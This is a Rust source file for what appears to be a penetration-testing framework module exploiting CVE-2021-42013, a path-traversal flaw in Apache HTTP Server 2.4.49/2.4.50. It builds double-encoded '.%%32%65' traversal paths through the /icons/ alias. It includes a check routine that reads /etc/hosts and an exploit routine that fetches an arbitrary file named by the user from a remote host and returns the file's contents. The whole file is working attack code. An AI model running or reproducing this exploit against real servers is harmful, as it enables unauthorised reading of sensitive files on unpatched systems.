//! Apache HTTP Server 2.4.49/2.4.50 path traversal (CVE-2021-42013)
//!
//! The `.%%32%65` segments decode to `..` only after Apache's second decoding
//! pass, which is why the path has to go out unmodified.

use serde_json::json;
use std::time::Duration;
use tracing::{debug, info};

use super::http;
use crate::module::{ExploitModule, ModuleError, OptionSet, RunReport};

/// File that exists on practically every Unix target
const CHECK_FILE: &str = "/etc/hosts";

pub struct ApachePathTraversal;

/// Traversal path for `file` relative to the `/icons/` alias
pub fn traversal_path(file: &str) -> String {
    let file = if file.starts_with('/') {
        file.to_string()
    } else {
        format!("/{}", file)
    };
    format!("/icons/.%%32%65/.%%32%65/.%%32%65/.%%32%65{}", file)
}

fn read_file(options: &OptionSet, file: &str) -> Result<Option<http::RawResponse>, ModuleError> {
    let host = options.text("RHOST");
    let port = u16::try_from(options.integer("RPORT").unwrap_or(80))
        .map_err(|_| ModuleError::OperationError("RPORT out of range".to_string()))?;
    let timeout = Duration::from_secs(options.integer("TIMEOUT").unwrap_or(5).max(1) as u64);

    let response = http::get(
        &host,
        port,
        &traversal_path(file),
        &options.text("USER_AGENT"),
        timeout,
    )?;
    debug!("{}:{} answered {} for {}", host, port, response.status, file);
    Ok((response.status == 200 && !response.body.is_empty()).then_some(response))
}

impl ExploitModule for ApachePathTraversal {
    fn check(&mut self, options: &OptionSet) -> Result<bool, ModuleError> {
        Ok(read_file(options, CHECK_FILE)?.is_some())
    }

    fn exploit(&mut self, options: &OptionSet) -> Result<RunReport, ModuleError> {
        let file = options.text("FILE");
        match read_file(options, &file)? {
            Some(response) => {
                info!(
                    "Read {} ({} bytes) from {}",
                    file,
                    response.body.len(),
                    options.text("RHOST")
                );
                Ok(RunReport::success(json!({
                    "vulnerable": true,
                    "file": file,
                    "status_code": response.status,
                    "content": response.body,
                })))
            }
            None => Ok(RunReport::failure_with_data(
                "Unable to read requested file",
                json!({ "vulnerable": true, "file": file }),
            )),
        }
    }
}
